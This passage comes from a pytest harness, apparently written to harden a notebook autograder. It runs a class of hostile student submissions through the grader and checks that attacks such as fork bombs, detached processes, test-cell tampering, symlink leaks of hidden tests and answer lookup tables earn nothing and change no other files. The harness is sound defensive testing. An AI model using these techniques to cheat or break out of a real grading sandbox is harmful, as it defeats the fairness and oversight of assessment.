    that run as the grader, not as a sandbox user (Dask's nannies and workers, nbgrader, the kernel launcher)."""

    bytes: int = 0
    command: str = ""


def run_measured(command: list[str], timeout: float, **kw) -> tuple[subprocess.CompletedProcess, Peak]:
    """subprocess.run(command, capture_output=True, text=True), sampling its grading processes' memory (Peak) every
    0.2 s meanwhile: a process's VmHWM keeps its peak, so a sample late in its life sees it."""
    peak, done = Peak(), threading.Event()
    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **kw)

    def sample():
        while not done.wait(0.2):
            for pid in _descendants(proc.pid):
                try:
                    status = Path(f"/proc/{pid}/status").read_text()
                    hwm = int(re.search(r"^VmHWM:\s+(\d+) kB", status, re.M).group(1)) * 1024
                    if hwm > peak.bytes and not any(u in SANDBOX_UIDS for u in _uids(Path(f"/proc/{pid}"))):
                        peak.bytes, peak.command = hwm, _cmdline(Path(f"/proc/{pid}"))
                except (OSError, AttributeError, ValueError):
                    continue  # gone meanwhile, or a kernel thread

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        stdout, stderr = proc.communicate(timeout=timeout)
    finally:
        proc.kill()
        done.set()
        sampler.join()
    return subprocess.CompletedProcess(command, proc.returncode, stdout, stderr), peak


def _descendants(root: int) -> list[int]:
    children: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            ppid = int(stat.read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            continue
        children.setdefault(ppid, []).append(int(stat.parent.name))
    found, todo = [], [root]
    while todo:
        pid = todo.pop()
        found.append(pid)
        todo += children.get(pid, [])
    return found


# ---- the class, graded once ----------------------------------------------------------------------------------------

@dataclass
class Graded:
    lab: Path  # the lab's copy: graders/, reference/, and the course as assignments/
    course: Path
    assignment: str
    attacks: list[Attack]
    proc: subprocess.CompletedProcess
    seconds: float
    peak: Peak
    before: dict[str, str]
    after: dict[str, str]
    leftovers: list[str]
    kits: list[Path]
    started: float
    expected: dict[str, int]

    def of(self, ploy: Ploy) -> Attack:
        """This class's attack by `ploy` (the test is skipped where its bank has none)."""
        found = [a for a in self.attacks if a.ploy is ploy]
        if not found:
            pytest.skip(f"no attack {ploy.number} in the {self.assignment} bank")
        return found[0]


def make_template(tmp_path_factory, assignment: str = ASSIGNMENT) -> tuple[Path, nbformat.NotebookNode, dict[str, str]]:
    """A copy of the lab (graders/, reference/) holding a generated course of `assignment` as its assignments/, with
    the fast limits and a secret seed; each class copies it (copy_lab). Returns (lab, release, solutions)."""
    lab = tmp_path_factory.mktemp("template") / "lab"
    for name in ("graders", "reference"):
        shutil.copytree(ROOT / name, lab / name, ignore=shutil.ignore_patterns("__pycache__"))
    (lab / "assignments").mkdir()
    start = time.perf_counter()
    release, solutions = new_course(lab / "assignments", FAST_CONFIG, assignment)
    seed = lab / "assignments" / "hidden_seed.txt"
    seed.write_text(SEED + "\n")
    seed.chmod(0o600)
    print(f"\ngenerate_assignment: {time.perf_counter() - start:.0f} s")
    return lab, release, solutions


def copy_lab(template, folder: Path) -> Path:
    lab, _, _ = template
    shutil.copytree(lab, folder, symlinks=True)
    return folder


def grade_class(template, tmp_path_factory, attacks: list[Attack], assignment: str = ASSIGNMENT,
                workers: int = 2) -> Graded:
    """The class (honest, blank, the victims, one attacker per attack) in a copy of the template, graded by one
    `python -m graders.batch.autograde` on `workers` Dask workers, with what must not change recorded around it."""
    _, release, solutions = template
    lab = copy_lab(template, tmp_path_factory.mktemp("hostile") / "lab")
    course = lab / "assignments"
    total = sum(spec.points for spec in tasks_of(assignment).values())
    expected = {"honest": total, "blank": 0, **{v: total for v in VICTIMS}}
    write_submission(course, "honest", release, solutions, assignment)
    write_submission(course, "blank", release, None, assignment)
    for victim in VICTIMS:
        write_submission(course, victim, release, solutions, assignment)
    for attack in attacks:
        write_attacker(lab, attack, release, solutions)
        expected[attack.student] = attack.expected
        if attack.ploy is TAMPER_TESTS:
            tamper_test_cells(course, attack.student, attack.cells[0][0], assignment)

    before = snapshot(lab)
    started = time.time()
    start = time.perf_counter()
    proc, peak = run_measured([sys.executable, "-m", "graders.batch.autograde", assignment, "--course", str(course),
                               "--workers", str(workers), "--no-progress"], timeout=1200, cwd=lab,
                              env=grading_env(lab))
    seconds = time.perf_counter() - start
    leftovers = sandbox_processes(started, lab)
    after = snapshot(lab)
    kits = worker_kits(lab)
    print(f"autograde: {len(expected)} submissions in {seconds:.0f} s on {workers} workers, grading processes' peak "
          f"{peak.bytes / 2**30:.2f} GiB ({peak.command[:80]})")
    return Graded(lab, course, assignment, attacks, proc, seconds, peak, before, after, leftovers, kits, started,
                  expected)


def total(course: Path, student: str, assignment: str = ASSIGNMENT) -> float:
    return sum(cell_scores(course, student, assignment).values())


def task_scores(course: Path, student: str, assignment: str = ASSIGNMENT) -> dict[str, float]:
    scores = cell_scores(course, student, assignment)
    return {task: scores[f"test_{task}_sanity"] + scores[f"test_{task}_hidden"] for task in tasks_of(assignment)}


def verdict(course: Path, student: str, grade_id: str, assignment: str = ASSIGNMENT) -> str:
    """What the autograded test cell `grade_id` of the student's notebook says (its output's text)."""
    nb = nbformat.read(course / "autograded" / student / assignment / f"{assignment}.ipynb", as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    return "\n".join(o.get("evalue", "") + o.get("text", "") for o in cell.outputs)


def cell_outputs(course: Path, student: str, assignment: str = ASSIGNMENT) -> str:
    """Every output text of the student's autograded notebook, joined."""
    nb = nbformat.read(course / "autograded" / student / assignment / f"{assignment}.ipynb", as_version=4)
    return json.dumps([cell.get("outputs", []) for cell in nb.cells])


# ---- the TA tool on the same class ---------------------------------------------------------------------------------

@dataclass
class TARun:
    results: dict[str, dict[str, dict]]  # student -> task -> the TA tool's result dict
    runtimes: dict[str, float]  # student -> seconds its grading took
    seeded: bool  # whether it read the course's secret seed (--seed-file)
    after: dict[str, str]
    seconds: float
    peak: Peak


def run_ta_tool(graded: Graded, tmp_path_factory, jobs: int = 2) -> TARun:
    """The TA tool on the same submitted/ folder, after autograde, on `jobs` Dask workers."""
    out = tmp_path_factory.mktemp("ta") / "report"
    env = grading_env(graded.lab)
    help_text = subprocess.run([sys.executable, "-m", "graders.compare", "--help"], cwd=graded.lab, env=env,
                               capture_output=True, text=True, timeout=120).stdout
    seed = ["--seed-file", str(graded.course / "hidden_seed.txt")] if "--seed-file" in help_text else []
    started = time.time()
    start = time.perf_counter()
    command = [sys.executable, "-m", "graders.compare", str(graded.course / "submitted"), "--assignment",
               graded.assignment, "--out", str(out), "--jobs", str(jobs), "--no-progress", *seed]
    proc, peak = run_measured(command, timeout=1200, cwd=graded.lab, env=env)
    seconds = time.perf_counter() - start
    leftovers = sandbox_processes(started, graded.lab)
    print(f"TA tool: {seconds:.0f} s, grading processes' peak {peak.bytes / 2**30:.2f} GiB ({peak.command[:80]})")
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert not leftovers, leftovers
    runs = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines() if line.strip()]
    runtimes = {run["student"]: run.get("runtime_s", 0.0) for run in runs}
    return TARun({run["student"]: run["results"] for run in runs}, runtimes, bool(seed), snapshot(graded.lab), seconds,
                 peak)


# ---- the checks every bank runs, and their fixtures ----------------------------------------------------------------
# A bank's module defines ASSIGNMENT and ATTACKS and imports these with `from hostile import *`; the fixtures grade
# its class once per front end (module scope), and `attack` runs a check once per attacker.

@pytest.fixture(scope="module")
def template(request, tmp_path_factory):
    return make_template(tmp_path_factory, request.module.ASSIGNMENT)


@pytest.fixture(scope="module")
def graded(request, template, tmp_path_factory) -> Graded:
    return grade_class(template, tmp_path_factory, request.module.ATTACKS, request.module.ASSIGNMENT)


@pytest.fixture(scope="module")
def ta_run(graded, tmp_path_factory) -> TARun:
    return run_ta_tool(graded, tmp_path_factory)


def pytest_generate_tests(metafunc):
    """`attack`: each of the bank's ATTACKS; `forbidden`: each of its FORBIDDEN_ATTACKS (also among ATTACKS, solutions
    written on reference/ or diffusers); both named by the student."""
    for name, listed in (("attack", "ATTACKS"), ("forbidden", "FORBIDDEN_ATTACKS")):
        if name in metafunc.fixturenames:
            metafunc.parametrize(name, getattr(metafunc.module, listed), ids=lambda attack: attack.student)


@confined
def test_batch_completes_with_a_grade_for_everyone(graded):
    """Does one parallel autograde of the whole hostile class exit 0 and leave a grade row for every student?"""
    out = graded.proc.stdout[-3000:] + graded.proc.stderr[-3000:]
    assert graded.proc.returncode == 0, out
    from nbgrader.api import Gradebook

    cells = 2 * len(tasks_of(graded.assignment))
    with Gradebook(f"sqlite:///{graded.course / 'gradebook.db'}") as gb:
        students = {s.id for s in gb.students}
        for student in graded.expected:
            assert student in students, student
            assert len(cell_scores(graded.course, student, graded.assignment)) == cells, student


@confined
def test_honest_blank_and_victims_graded_right(graded):
    """Do the honest student and both victims get full marks, and the untouched release 0, with attackers graded
    first?"""
    for student in ("honest", "blank", *VICTIMS):
        scores = cell_scores(graded.course, student, graded.assignment)
        assert sum(scores.values()) == graded.expected[student], (student, scores)


@confined
def test_attack_earns_nothing(graded, attack):
    """Does the attack score exactly what the attacker's honest tasks earn: 0 for the tasks it costs, full marks
    elsewhere?"""
    tasks = tasks_of(graded.assignment)
    scores = task_scores(graded.course, attack.student, graded.assignment)
    if attack.ploy.loses_all:
        assert scores == {t: 0 for t in tasks}, f"{attack.student} ({attack.ploy.what}): {scores}"
        return
    want = {t: (0 if t in attack.tasks else spec.points) for t, spec in tasks.items()}
    assert scores == want, f"{attack.student} ({attack.ploy.what}): {scores}"
    assert total(graded.course, attack.student, graded.assignment) == attack.expected


@confined
def test_nothing_outside_the_attackers_folder_changed(graded):
    """Is every file outside grading's own output unchanged: the course, the other submissions, the lab's code?"""
    moved = changed(graded.course, graded.before, graded.after)
    assert not moved, f"changed during autograde: {moved}"
    assert not markers(graded.lab, ROOT / "graders", ROOT / "reference", ROOT / "assignments")
    for kit in graded.kits:
        for path in kit.rglob("*.py"):
            assert MARK not in path.read_text(), f"the worker's kit was written to: {path}"


@confined
def test_victims_submissions_byte_identical(graded):
    """Are the victims' submitted notebooks byte for byte what they handed in?"""
    for victim in VICTIMS:
        key = str(graded.course / "submitted" / victim / graded.assignment / f"{graded.assignment}.ipynb")
        assert graded.before[key] == graded.after[key], victim


@confined
def test_no_sandbox_process_outlives_the_batch(graded):
    """Is no process of a sandbox user (kernel or worker) still running once autograde has returned?"""
    assert not graded.leftovers, graded.leftovers


@confined
def test_no_marker_appears_later(graded):
    """Once the detached processes' sleep is over, has none of them written anything, nor changed a grade?"""
    detached = graded.of(DETACHED)
    time.sleep(max(0.0, graded.started + 8 - time.time()))
    assert not markers(graded.lab, ROOT / "graders", ROOT / "reference", ROOT / "assignments")
    assert total(graded.course, "victim-a", graded.assignment) == graded.expected["victim-a"]
    assert total(graded.course, detached.student, graded.assignment) == detached.expected


@confined
def test_secret_seed_never_reaches_a_student(graded):
    """Does no autograded notebook (the feedback's source) show the course's secret seed, even through a link?"""
    for student in graded.expected:
        assert SEED not in cell_outputs(graded.course, student, graded.assignment), student


@confined
def test_course_files_behind_a_link_stay_private(graded):
    """Does a link to the source notebook, handed in beside the notebook, keep its hidden tests from the feedback?
    graders/nbgrader/submission_files.py sets links aside before nbgrader copies anything, and the kernel never sees the
    submission's folder."""
    assert "BEGIN HIDDEN TESTS" not in cell_outputs(graded.course, graded.of(LINKS).student, graded.assignment)


@confined
def test_fork_bomb_stopped_by_process_limit(graded):
    """Did RLIMIT_NPROC stop the notebook kernel's fork bomb near 64 processes, far short of 2000?"""
    outputs = cell_outputs(graded.course, graded.of(LIMITS).student, graded.assignment)
    found = re.search(r"HOSTILE fork bomb: (\d+) children", outputs)
    assert found, "the kernel never reported its fork bomb"
    assert int(found.group(1)) <= 64


@confined
def test_hidden_seed_file_kept(graded):
    """Is the course's seed file still the instructor's, readable by its owner only?"""
    path = graded.course / "hidden_seed.txt"
    assert path.read_text().strip() == SEED
    assert path.stat().st_mode & 0o777 == 0o600


@confined
def test_ta_tool_agrees_on_honest_and_victims(ta_run, graded):
    """Does the TA tool pass every task of the honest student and the victims, fail all of the blank's, and change
    nothing?"""
    for student in ("honest", *VICTIMS):
        assert all(r["passed"] for r in ta_run.results[student].values()), (student, ta_run.results[student])
    assert not any(r["passed"] for r in ta_run.results["blank"].values())
    moved = sorted(k for k in graded.after.keys() | ta_run.after.keys() if graded.after.get(k) != ta_run.after.get(k))
    assert not moved, f"changed during the TA tool's run: {moved}"


@confined
def test_ta_tool_fails_the_attacked_task(ta_run, attack):
    """Does the TA tool fail each task the attack costs (every task, where the attack kills its loading), and pass
    the others?"""
    if attack.ploy is LOOKUP and not ta_run.seeded:
        pytest.xfail("the TA tool takes no --seed-file yet: its hidden cases use the public seed, which a lookup "
                     "table of answers computed at home passes")
    results = ta_run.results[attack.student]
    for task, result in results.items():
        lost = attack.ploy.loses_all or task in attack.tasks
        assert result["passed"] != lost, (attack.student, task, result["message"])


@pytest.mark.skipif(importlib.util.find_spec("diffusers") is None, reason="diffusers is not installed")
def test_forbidden_solutions_pass_where_the_libraries_can_be_imported(forbidden, template):
    """Run unconfined in this process (where diffusers and reference/ import) through the same worker.call, does every
    task written on them pass its hidden check, a reading of the function's code seeing nothing? Then it is the
    sandbox that stops them."""
    importlib.import_module("diffusers.schedulers.scheduling_ddim")  # the first import takes longer than a call may
    lab, release, solutions = template
    sources = {task: substitute(code, forbidden, lab) for task, code in forbidden.sources().items()}
    nb = nbformat.from_dict(release)
    for cell in nb.cells:
        cell.source = {**solutions, **sources}.get(cell.metadata.get("nbgrader", {}).get("grade_id"), cell.source)
    namespace, notes = worker.load(notebook.worker_cells(nb))
    assert not notes, notes
    for task in forbidden.tasks:
        assert not worker.static_touches(namespace[task]), task
        result = run_check(task, namespace[task], "full", forbidden.assignment)
        assert result.passed and not result.points_lost, result.message


@confined
def test_forbidden_libraries_fail_on_their_import(forbidden, graded, ta_run):
    """In the sandbox, does every such task fail on the import itself (the package replaced by a module raising
    ImportError that names it), in the autograded notebook and the TA tool alike, whatever the route?"""
    for task in forbidden.tasks:
        for message in (verdict(graded.course, forbidden.student, f"test_{task}_hidden", graded.assignment),
                        ta_run.results[forbidden.student][task]["message"]):
            assert "is not available to graded code" in message, (task, message)
